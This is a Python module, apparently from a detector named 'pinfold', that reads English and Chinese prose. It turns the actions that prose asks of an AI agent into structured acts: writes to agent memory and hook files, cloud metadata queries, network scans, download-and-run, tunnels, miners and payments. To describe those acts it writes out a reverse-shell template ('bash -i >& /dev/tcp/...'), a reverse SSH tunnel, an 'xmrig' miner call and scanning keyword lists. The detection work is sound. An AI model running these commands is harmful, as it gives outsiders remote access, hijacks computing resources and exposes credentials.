"""The other acts that prose asks for: writing to the agent's memory, probing, running downloads, tunnels, mining, payments."""

from __future__ import annotations

import re
from collections.abc import Iterator
from functools import cache

from pinfold.language.mentions import Mention, Sentence, is_asked, thing
from pinfold.language.sending import REMEMBERED, Draft, Memory, destination, normal_path, url_fields
from pinfold.language.verbs import Verb
from pinfold.language.wording import Pattern, compiled, simplified, wording
from pinfold.model import ActKind, FieldValue

_CONTENT = 2_000
_AS_OBJECT = frozenset("update modify edit overwrite replace create extend amend rewrite change 修改 更新 编辑 覆盖 改写 创建 配置".split())
"""Verbs whose object is the file itself; the others put something into it."""


@cache
def _into() -> Pattern:
    return compiled(r"(?:\b(?:to|in|into|inside|onto|at|within|under|of|your|the|his|its|user's|project's|with)|入|到|进|至|在|给|往|里|上|[:：])\s?(?:the |your |a |our |user's |their |global |local |project |root |top of |end of |existing )*$")


def memory_writes(sentence: Sentence, following: str) -> Iterator[Draft]:
    """Yield acts of writing to files that the agent obeys later; ``following`` is the text after the sentence."""
    data = sentence.data
    files = [file for file in sentence.of("memory_file", "memory_words") if data[max(0, file.start - 1) : file.start] not in (b"-", b"_", b".")]
    agreed = thing("consent").search(data) is not None
    seen: set[str] = set()
    for at, verb in sentence.verbs("write") if files else ():
        file = next((each for each in files if _writes_to(sentence, at, verb, each)), None)
        asked = is_asked(sentence, at, verb) if file is not None else None
        if file is None or asked is None:
            continue
        target = normal_path(sentence.words(file)) if file.kind == "memory_file" else _words_target(simplified(sentence.folded_words(file)))
        if target not in seen:
            seen.add(target)
            yield Draft(ActKind.WRITE, _written(sentence, target, following), min(at.start, file.start), max(at.end, file.end), asked and not agreed)
    if not seen and (match := thing("remember").search(data)):
        yield Draft(ActKind.WRITE, _written(sentence, "MEMORY.md", following), *match.span(), not agreed)


def _words_target(words: str) -> str:
    if "hook" in words or "钩子" in words:
        return ".claude/settings.json"
    return "HEARTBEAT.md" if "heartbeat" in words or "心跳" in words else "MEMORY.md"


def _writes_to(sentence: Sentence, at: Mention, verb: Verb, file: Mention) -> bool:
    gap = sentence.data[at.end : file.start]
    if at.end <= file.start:
        if len(gap) > 200 or re.search(rb"[.;]\s", gap):
            return False
        if verb.lemma in _AS_OBJECT and len(gap) <= 40 and not re.search(rb"\b(?:from|based on|per|following|according|using|with|after|when|for)\b", gap):
            return True
        return _into().search(gap.rstrip(b"`\"'*_([ ")) is not None or (not verb.lemma.isascii() and len(gap) <= 8)
    between = sentence.data[file.end : at.start]
    if verb.lemma.isascii() and verb.form == "base" and at.start >= file.end:
        return len(between) <= 12 and re.search(rb"\b(?:in|into|to|at)\s?(?:the |your )?$", sentence.data[: file.start].rstrip(b"`\"'*_ ")) is not None
    return at.start >= file.end and len(between) <= 60 and (not verb.lemma.isascii() or verb.form == "ed")


def _written(sentence: Sentence, target: str, following: str) -> dict[str, FieldValue]:
    """Return the fields of a write, with the literal text where the sentence gives it."""
    fields: dict[str, FieldValue] = {"TargetFilename": target}
    text = sentence.text.strip()
    if text.endswith((":", "：")):
        content = following.strip()
    else:
        quoted = re.search(r"[\"“「『]([^\"”」』]{4,2000})[\"”」』]", text)
        _, _, after = text.replace("：", ": ").partition(": ")
        content = quoted.group(1) if quoted else after.strip()
    if content:
        fields["Content"] = content[:_CONTENT]
    return fields


def probes(sentence: Sentence) -> Iterator[Draft]:
    """Yield acts of looking around in the network, and of asking the metadata service of a cloud."""
    for place in sentence.of("metadata"):
        found = _governing(sentence, place, ("ask", "probe", "read", "run"))
        if found is not None:
            at, asked = found
            written = sentence.words(place)
            host = re.search(r"[\d.]{7,15}|fd00:ec2::254|metadata\.[\w.]+", written, re.IGNORECASE)
            fields = url_fields("//" + host.group(), keep=False) if host and ":" not in host.group() else {"DestinationIp": "fd00:ec2::254" if host else "169.254.169.254"}
            if "/" in written:
                fields["Url"] = written if "://" in written else f"http://{written}"
            yield Draft(ActKind.CONNECT, {**fields, "DestinationPort": 80, "Method": "GET"}, min(at.start, place.start), max(at.end, place.end), asked)
    for place in sentence.of("range") or sentence.of("network"):
        found = _governing(sentence, place, ("probe",))
        single = place.kind == "range" and re.fullmatch(rb"[\d.]+", sentence.data[place.start : place.end]) is not None
        if found is None or ((single or place.kind == "network") and not _is_search(sentence, found[0], place)):
            continue
        at, asked = found
        network = sentence.words(place) if place.kind == "range" else wording()["things"]["network_range"]
        fields = {"DestinationIp": network, "Method": "SCAN"}
        port = re.search(rb"(?:\bports? |\xe7\xab\xaf\xe5\x8f\xa3\s?)(\d{1,5})", sentence.data)
        if port:
            fields["DestinationPort"] = int(port.group(1))
        yield Draft(ActKind.CONNECT, fields, min(at.start, place.start), max(at.end, place.end), asked)


_SEARCHING = frozenset("scan probe sweep enumerate port-scan portscan nmap ping fingerprint bruteforce crawl map 探测 扫描 枚举 遍历 嗅探 扫 扫一遍 摸清 探查 测绘 爆破 逐个访问 逐一访问".split()) | {"port scan", "brute force", "brute-force", "iterate over"}


def _is_search(sentence: Sentence, at: Mention, place: Mention) -> bool:
    """Tell whether a verb and a network in words mean a search: scanning verbs do, "check" and "find" only with hosts or ports in the sentence."""
    verb = sentence.verb(at)
    if verb is not None and verb.lemma in _SEARCHING:
        return True
    rest = sentence.data[: place.start] + b" | " + sentence.data[place.end :]
    return thing("hosts_words").search(rest) is not None or sentence.data[place.start : place.end].startswith((b"every", b"each", b"all", b"any"))


def _governing(sentence: Sentence, place: Mention, classes: tuple[str, ...]) -> tuple[Mention, bool] | None:
    """Return the verb of which a mention is the object, and whether it asks."""
    for at, verb in reversed(sentence.verbs(*classes)):
        near = 0 <= place.start - at.end <= 140 or (0 <= at.start - place.end <= 30 and not verb.lemma.isascii()) or (verb.form == "ed" and 0 <= at.start - place.end <= 60)
        if near:
            asked = is_asked(sentence, at, verb)
            if asked is not None:
                return at, asked
    return None


_DOWNLOADING = frozenset("download fetch curl wget grab pull 下载 拉取".split()) | {"pull down"}


def downloads(sentence: Sentence, memory: Memory) -> Iterator[Draft]:
    """Yield acts of running what was just downloaded, in one sentence or in a few."""
    data = sentence.data
    url = next((place for place in sentence.of("url") if place), None)
    fetched = next(((at, asked) for at, verb in sentence.verbs("fetch") if (asked := is_asked(sentence, at, verb)) is not None), None)
    if fetched is not None:
        at = fetched[0]
        verb = sentence.verb(at)
        is_download = verb is not None and verb.lemma in _DOWNLOADING
        origin = sentence.words(url).rstrip(".,;:!?*_") if url is not None else ""
        things = thing("download_words").search(data[at.end : at.end + 60])
        if (origin and (things or is_download)) or (things and thing("link_words").search(data)):
            memory.download = (sentence.index, origin or "*")
    secret = _archive_password(sentence)
    origin = memory.download[1] if memory.download and sentence.index - memory.download[0] <= REMEMBERED else ""
    if secret is not None:
        at, asked, password = secret
        fields: dict[str, FieldValue] = {"Image": "unzip", "CommandLine": f"unzip -P {password}"}
        yield Draft(ActKind.EXEC, {**fields, **_origin(origin)}, at, len(data), asked)
    if not origin and secret is None:
        return
    for at, verb in sentence.verbs("run"):
        if fetched is not None and sentence.index == (memory.download or (0,))[0] and at.start < fetched[0].end:
            continue
        if secret is not None and sentence.folded_words(at) == secret[2]:
            continue
        if _runs(data, at, verb) and (asked := is_asked(sentence, at, verb)) is not None:
            program = _program(data, at, origin)
            yield Draft(ActKind.EXEC, {"Image": program, "CommandLine": program, **_origin(origin or "*")}, at.start, at.end, asked)
            memory.download = None
            return


def _origin(origin: str) -> dict[str, FieldValue]:
    if not origin:
        return {}
    return {"ImageOrigin": origin} if origin == "*" else {"ImageOrigin": origin, "Url": origin}


def _archive_password(sentence: Sentence) -> tuple[int, bool, str] | None:
    """Return where an archive is opened with a given password, whether that is asked for, and the password."""
    data = sentence.data
    found = next(((at, asked) for at, verb in sentence.verbs("unpack") if (asked := is_asked(sentence, at, verb)) is not None), None)
    match = thing("archive_password").search(data)
    if match is None and found is not None:
        match = compiled(r"\b(?:password|passcode|passphrase|pwd)\b|\bpass\s?[:=\"'`]|密码|口令|提取码").search(data)
    if match is None:
        return None
    given = re.match(rb"(?:\s*(?:is|=|:|\xe6\x98\xaf|\xe4\xb8\xba|\xef\xbc\x9a))*[\s`\"'*:=]*([!-~]{2,64})", data[match.end() :])
    password = given.group(1).rstrip(b"`\"'*.,;)").decode() if given else ""
    if found is None and not password:
        return None
    known = bool(password) and password not in ("is", "and", "to", "for", "the", "of", "from", "in", "on", "protected", "manager", "protection", "or", "if", "you", "with", "when", "that", "as")
    if not known:
        return None
    return (found[0].start, found[1], password) if found else (match.start(), True, password)


def _runs(data: bytes, at: Mention, verb: Verb) -> bool:
    """Tell whether a verb of running has the download as its object."""
    after = data[at.end : at.end + 60].lstrip(b" *_`\"'")
    if verb.lemma in ("paste", "粘贴"):
        return thing("terminal").search(data[at.end : at.end + 80]) is not None
    match = thing("runnable").match(after)
    if match is None and not verb.lemma.isascii():
        before = data[max(0, at.start - 12) : at.start]
        return not after.strip(b" .") or after.startswith((b",", "。".encode())) or before.endswith(("并".encode(), "后".encode()))
    if match is None:
        return not after.strip(b" .!") or re.match(rb"[\w.-]{1,60}\.(?:exe|dmg|pkg|sh|bat|msi|app|ps1|py|run|bin|appimage)\b", after) is not None
    return verb.lemma != "open" or re.match(rb"(?:the |this )?(?:\w+ )?(?:installer|app|dmg|exe|setup|binary|executable|program)|\S+\.(?:exe|dmg|pkg|msi|app)", after) is not None


def _program(data: bytes, at: Mention, origin: str) -> str:
    """Return the program that runs, by its name in the text or in the URL."""
    named = re.match(rb"[ *_`\"']*([\w.-]{1,60}\.(?:exe|dmg|pkg|sh|bat|msi|app|ps1|py|run|bin|appimage))\b", data[at.end : at.end + 80])
    if named:
        return named.group(1).decode("utf-8", "replace")
    last = origin.split("?")[0].rstrip("/").rpartition("/")[2]
    return last if "." in last else "*"


def tunnels(sentence: Sentence, memory: Memory) -> Iterator[Draft]:
    """Yield acts of opening a way back in."""
    data = sentence.data
    for what in sentence.of("tunnel", "tunnel_tool"):
        if data[max(0, what.start - 1) : what.start] in (b".", b"/", b"-", b"<", b"_") or sentence.before(what.start).endswith(b"which"):
            continue
        found = _governing(sentence, what, ("open",) if what.kind == "tunnel" else ("expose",))
        if found is None and what.kind == "tunnel" and not sentence.data[what.start : what.start + 1].isascii():
            found = (what, True) if simplified(sentence.folded_words(what)).startswith("反弹") else None
        if found is None or (what.kind == "tunnel_tool" and not re.search("expose|tunnel|forward|port|public|internet|穿透|暴露|映射|公网|端口|外网".encode(), sentence.data)):
            continue
        at, asked = found
        places = sentence.of("url", "host", "address", "place")
        fields = destination(sentence, places[0], memory) if places else {"DestinationHostname": "*"}
        host = str(fields.get("DestinationHostname") or fields.get("DestinationIp"))
        start, end = min(at.start, what.start), max(at.end, what.end)
        words = simplified(sentence.folded_words(what))
        if what.kind == "tunnel_tool":
            yield Draft(ActKind.EXEC, {"Image": words, "CommandLine": words}, start, end, asked)
        elif "shell" in words or "反弹" in words:
            yield Draft(ActKind.EXEC, {"Image": "bash", "CommandLine": f"bash -i >& /dev/tcp/{host}/{fields.get('DestinationPort', 443)} 0>&1"}, start, end, asked)
        else:
            yield Draft(ActKind.EXEC, {"Image": "ssh", "CommandLine": f"ssh -N -R 0:localhost:22 {host}"}, start, end, asked)
        yield Draft(ActKind.CONNECT, {**fields, "ReverseTunnel": True}, start, end, asked)


def mining(sentence: Sentence) -> Iterator[Draft]:
    """Yield acts of starting a miner."""
    for what in sentence.of("mining"):
        found = _governing(sentence, what, ("mine",))
        words = simplified(sentence.folded_words(what))
        if words.startswith(("mine ", "mining ", "挖", "挂机")) and found is None:
            verb = words.startswith(("mine ", "挖", "挂机")) and not sentence.before(what.start).endswith((b"data", b"text", b"the", b"a"))
            found = (what, True) if verb else None
        if found is None or (words in ("miner", "miners") and not thing("mining_near").search(sentence.data)):
            continue
        at, asked = found
        yield Draft(ActKind.EXEC, {"Image": "xmrig", "CommandLine": "xmrig"}, min(at.start, what.start), max(at.end, what.end), asked)


def payments(sentence: Sentence) -> Iterator[Draft]:
    """Yield acts of paying somebody."""
    for what in sentence.of("amount"):
        found = _governing(sentence, what, ("pay",))
        if found is None or sentence.data[what.end : what.end + 1] == b"/" or not _pays(sentence.data, found[0], what):
            continue
        at, asked = found
        words = sentence.words(what)
        number = re.search(r"\d[\d,.]*", words)
        payee = re.search(r"\bto\s+[`\"'*]*([\w@.:/-]{3,120})|(?:给|向|到|至)\s*[`\"'*]*([\w@.:/-]{2,80})", sentence.text[sentence.folded.span(what.start, what.end)[0] :])
        amount = number.group().rstrip(".,").replace(",", "") if number else ""
        fields: dict[str, FieldValue] = {"Amount": amount, "Currency": _currency(words)}
        if payee is None:
            payee = re.search(r"(?:向|给)\s*([^\s,，。]{1,40}?)\s*(?:转账|付款|支付|打款|汇款|转|匯|轉)()", sentence.text)
        if payee:
            fields["Payee"] = (payee.group(1) or payee.group(2)).rstrip(".,;:")
        yield Draft(ActKind.SPEND, fields, min(at.start, what.start), max(at.end, what.end), asked)


def _pays(data: bytes, at: Mention, what: Mention) -> bool:
    """Tell whether an amount is what a verb of paying moves, and no price, limit or rate beside it."""
    gap = data[at.end : what.start]
    if at.start > what.start:
        return data[at.start : at.start + 1] >= b"\x80"
    if data[at.start : at.start + 1] >= b"\x80":
        return len(gap) <= 40 and not re.search("[(:,|]|约|费|不超过|低于|高于".encode(), gap)
    return len(gap) <= 40 and not re.search(rb"\b(?:below|above|under|over|per|at|if|when|than|up to|limit|about|around)\b|[(:|~]", gap)


def _currency(words: str) -> str:
    folded = words.casefold()
    for code, names in wording()["currency"].items():
        if any(name in folded for name in names):
            return str(code)
    letters = re.sub(r"[^a-z]", "", folded)
    return letters.upper()
